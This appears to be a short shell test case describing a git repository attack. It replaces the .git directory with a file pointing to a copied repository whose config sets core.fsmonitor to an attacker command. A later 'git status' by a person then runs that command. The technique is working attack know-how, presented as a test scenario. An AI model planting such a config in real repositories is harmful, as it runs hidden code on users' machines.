# The git directory is replaced by a file that points to another.
attack() {
    evil
    cp -r .git g
    git config -f g/config core.fsmonitor "$EVIL"
    mv .git old
    echo "gitdir: $PWD/g" >.git
}
human() {
    git status
}
harmed() {
    executed
}
